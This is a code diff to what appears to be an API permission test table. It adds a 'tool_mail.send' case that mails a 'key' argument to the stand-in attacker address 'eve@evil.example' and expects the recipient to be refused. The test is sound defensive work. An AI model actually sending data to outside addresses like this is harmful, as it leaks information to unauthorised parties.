@@ -349,6 +349,10 @@ TABLE: dict[str, tuple[Codes, Call]] = {
     "workflows.unarchive": (FOR_MEMBERS, lambda s, a: s.core.workflows.unarchive(a, s.workflow())),
     "workflows.version": (OWN, lambda s, a: s.core.workflows.version(a, s.published(), 1)),
     "workflows.versions": (OWN, lambda s, a: s.core.workflows.versions(a, s.published())),
+    "tool_mail.send": (
+        everybody("recipient_refused"),
+        lambda s, a: s.core.tool_mail.send(a, "eve@evil.example", "Hello", "Hello", "key"),
+    ),
     "two_factor.begin": (everybody("ok"), lambda s, a: s.core.two_factor.begin(a)),
     "two_factor.disable": (everybody("code_refused"), lambda s, a: s.core.two_factor.disable(a, "000000")),
     "two_factor.enable": (everybody("code_refused"), lambda s, a: s.core.two_factor.enable(a, "000000")),
